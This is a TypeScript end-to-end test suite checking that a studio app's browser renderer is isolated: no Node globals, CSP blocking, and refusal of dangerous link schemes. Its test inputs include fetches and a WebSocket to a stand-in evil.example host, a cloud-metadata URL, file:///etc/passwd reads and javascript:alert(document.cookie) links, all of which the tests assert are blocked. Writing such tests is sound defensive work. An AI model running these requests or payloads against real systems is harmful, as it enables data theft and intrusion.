// The renderer cannot reach Node or open arbitrary URLs (issue 7), in browser mode in Chromium: no
// require/process/Buffer, no window.studio bridge; the CSP stops remote scripts, remote fetches,
// inline scripts and eval; the studio's openExternal lets only http(s) links out; markdown links with
// other schemes in a plugin's plugin.json open nothing. (The desktop shell's guards are unit-tested
// against a stand-in electron in main/electron/desktop-app.test.ts.)
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { hasSystemPart, requireSystemPart } from '../test-support/system-parts.ts'
import { openBrowser, type BrowserSession } from './support/browser.ts'
import { StudioPage } from './support/studio-page.ts'
import { startStudio, type RunningStudio } from './support/studio-server.ts'

const PLUGIN_JSON = {
  name: 'Link trap',
  main: 'index.js',
  config: [
    { markdown: 'Links: [js](javascript:alert(document.cookie)) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>) [vbs](vbscript:msgbox) [custom](ms-settings:privacy)' },
    { key: 'greeting', name: 'Greeting', type: 'string', default: 'hi', hint: 'Or [here](javascript:void(0))' },
  ],
}

/** The page's DOM as these checks use it (the e2e files are type-checked without the DOM library). */
interface PageGlobals {
  document: {
    addEventListener(type: 'securitypolicyviolation', listener: (event: { effectiveDirective: string; blockedURI: string }) => void): void
    createElement(tag: 'script'): { textContent: string }
    body: { append(node: unknown): void }
  }
  location: { origin: string }
}

describe('the renderer in browser mode', () => {
  let studio: RunningStudio
  let session: BrowserSession
  let ui: StudioPage

  before(async () => {
    if (!hasSystemPart('chromium')) return
    studio = await startStudio()
    await mkdir(path.join(studio.workspaceDir, 'link-trap'))
    await writeFile(path.join(studio.workspaceDir, 'link-trap', 'plugin.json'), JSON.stringify(PLUGIN_JSON, null, 2))
    await writeFile(path.join(studio.workspaceDir, 'link-trap', 'index.js'), 'export function processEvent(e) { return e }\n')
    session = await openBrowser()
    ui = new StudioPage(session.page)
    await ui.open(studio.url)
  })
  after(async () => {
    await session?.screenshot('renderer-isolation-last-state').catch(() => undefined)
    await session?.close()
    await studio?.close()
  })

  test('has no Node: no require, process, Buffer, module or desktop bridge', async (t) => {
    if (!requireSystemPart(t, 'chromium')) return
    const reach = await ui.page.evaluate(() => {
      const g = globalThis as Record<string, unknown>
      return {
        require: typeof g.require,
        process: typeof g.process,
        Buffer: typeof g.Buffer,
        module: typeof g.module,
        __dirname: typeof g.__dirname,
        studio: typeof g.studio,
        electron: typeof g.electron,
        nodeVersion: typeof (g.process as { versions?: { node?: string } } | undefined)?.versions?.node,
      }
    })
    assert.deepEqual(reach, { require: 'undefined', process: 'undefined', Buffer: 'undefined', module: 'undefined', __dirname: 'undefined', studio: 'undefined', electron: 'undefined', nodeVersion: 'undefined' })
  })

  test('the CSP stops remote fetches, remote and inline scripts, eval, and file: reads', async (t) => {
    if (!requireSystemPart(t, 'chromium')) return
    const outcome = await ui.page.evaluate(async () => {
      const { document } = globalThis as unknown as PageGlobals
      const remoteModule = 'https://evil.example/payload.js'
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`))
      const attempt = async (what: () => Promise<unknown>) => {
        try {
          await what()
          return 'allowed'
        } catch (error) {
          return `refused: ${(error as Error).name}`
        }
      }
      const results = {
        fetchRemote: await attempt(() => fetch('https://evil.example/steal')),
        fetchMetadata: await attempt(() => fetch('http://169.254.169.254/latest/meta-data/')),
        fetchFile: await attempt(() => fetch('file:///etc/passwd')),
        importRemote: await attempt(() => import(/* @vite-ignore */ remoteModule)),
        eval: await attempt(async () => (0, eval)('1 + 1')),
        newFunction: await attempt(async () => new Function('return 1')()),
        websocketElsewhere: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const ws = new WebSocket('ws://evil.example/socket')
              ws.onopen = resolve
              ws.onerror = () => reject(new Error('refused'))
            }),
        ),
      }
      const inline = document.createElement('script')
      inline.textContent = 'globalThis.inlineRan = true'
      document.body.append(inline)
      await new Promise((r) => setTimeout(r, 200))
      return { results, inlineRan: (globalThis as Record<string, unknown>).inlineRan === true, violations }
    })
    for (const [what, result] of Object.entries(outcome.results)) assert.match(result, /^refused/, `${what} was ${result}`)
    assert.equal(outcome.inlineRan, false, 'an inline script ran')
    for (const expected of ['connect-src https://evil.example/steal', 'connect-src http://169.254.169.254/latest/meta-data/', 'script-src-elem https://evil.example/payload.js', 'connect-src ws://evil.example/socket', 'script-src-elem inline']) {
      assert.ok(outcome.violations.includes(expected), `the page's CSP did not refuse "${expected}": ${outcome.violations.join(', ')}`)
    }
    // Refused by the page's own policy: any attempt Chromium reported as a request has its CSP violation.
    for (const url of session.externalRequests) assert.ok(outcome.violations.some((v) => v.endsWith(` ${url}`)), `${url} was requested without a CSP refusal`)
  })

  test("the studio's openExternal lets only absolute http(s) links out, from the page's own socket", async (t) => {
    if (!requireSystemPart(t, 'chromium')) return
    const answers = await ui.page.evaluate(async () => {
      const { location } = globalThis as unknown as PageGlobals
      // The page's cookie and origin authenticate this socket, as they do the app's own.
      const ws = new WebSocket(`${location.origin.replace('http', 'ws')}/studio`)
      await new Promise((resolve, reject) => {
        ws.onopen = resolve
        ws.onerror = reject
      })
      const urls = ['file:///etc/passwd', 'javascript:alert(1)', 'data:text/html,x', 'chrome://settings', 'ms-settings:privacy', '//evil.example/x', 'https://user:pw@evil.example/', 'https://posthog.com/docs/apps']
      const replies = new Map<number, unknown>()
      ws.onmessage = (m) => {
        const message = JSON.parse(m.data as string)
        if (message.kind === 'response') replies.set(message.id, message.error ? `error: ${message.error.message}` : message.result)
      }
      urls.forEach((url, i) => ws.send(JSON.stringify({ kind: 'request', id: 1000 + i, method: 'openExternal', params: [url] })))
      const deadline = Date.now() + 10_000
      while (replies.size < urls.length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20))
      ws.close()
      return urls.map((url, i) => [url, replies.get(1000 + i)])
    })
    for (const [url, answer] of answers.slice(0, -1)) assert.match(String(answer), /^error: /, `${url} was let out: ${JSON.stringify(answer)}`)
    assert.deepEqual(answers.at(-1), ['https://posthog.com/docs/apps', { openedBy: 'browser', url: 'https://posthog.com/docs/apps' }])
  })

  test("markdown links with other schemes in a plugin's plugin.json open nothing and leave the studio where it is", async (t) => {
    if (!requireSystemPart(t, 'chromium')) return
    await ui.selectPlugin('Link trap')
    const pane = ui.region('Configuration')
    await pane.getByText('Links:').waitFor()
    const start = ui.page.url()
    const popups: string[] = []
    const onPage = (page: { url(): string }) => popups.push(page.url())
    session.context.on('page', onPage)
    const dialogs: string[] = []
    ui.page.on('dialog', (dialog) => void dialogs.push(dialog.message()))
    for (const name of ['js', 'file', 'data', 'vbs', 'custom', 'here']) {
      const link = pane.getByText(name, { exact: true })
      await link.click()
    }
    await new Promise((r) => setTimeout(r, 500))
    session.context.off('page', onPage)
    const hrefs = await pane.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))
    for (const href of hrefs) assert.doesNotMatch(String(href), /^(javascript|file|data|vbscript|ms-settings):/i, `a dangerous href was rendered: ${href}`)
    assert.equal(ui.page.url(), start, 'the studio navigated away')
    assert.deepEqual(dialogs, [], 'a script ran')
    assert.deepEqual(popups, [], 'a window was opened')
    await session.screenshot('renderer-isolation-links')
  })
})
